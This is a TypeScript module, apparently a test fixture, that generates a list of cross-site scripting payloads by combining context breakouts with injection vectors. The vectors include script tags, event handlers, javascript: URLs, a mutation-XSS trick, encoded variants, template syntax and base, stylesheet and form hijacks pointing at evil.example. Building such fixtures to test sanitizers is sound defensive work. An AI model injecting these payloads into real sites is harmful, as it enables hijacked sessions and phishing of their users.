/** Ways out of where a text stands, and what is tried there. Every combination is one payload; `fired(n)` tells which one ran. */
const EXITS = ['', '">', "'>", '`>', '</title>', '</style>', '--></textarea>', '</svg></p>', '" autofocus ', "' x='"];
const VECTORS = [
  '<script>fired(N)</script>',
  '<img src=x onerror=fired(N)>',
  '<svg onload=fired(N)>',
  '<svg><script>fired(N)</script></svg>',
  '<iframe srcdoc="<script>parent.fired(N)</script>"></iframe>',
  '<body onload=fired(N)>',
  '<details open ontoggle=fired(N)>',
  '<input autofocus onfocus=fired(N)>',
  '<a href="javascript:fired(N)">x</a>',
  'onerror=fired(N) onfocus=fired(N) tabindex=0',
  '<math><mtext><table><mglyph><style><img src=x onerror=fired(N)>',
  '<object data="javascript:fired(N)"></object>',
  '<meta http-equiv=refresh content="0;javascript:fired(N)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>x</button></form>',
  '<video><source onerror=fired(N)></video>',
  '&lt;script&gt;fired(N)&lt;/script&gt;',
  '&#60;img src=x onerror=fired(N)&#62;',
  '${fired(N)}{{fired(N)}}',
];

export const payloads: readonly string[] = EXITS.flatMap((exit, i) =>
  VECTORS.map((vector, j) => exit + vector.replaceAll('N', String(i * VECTORS.length + j))),
);
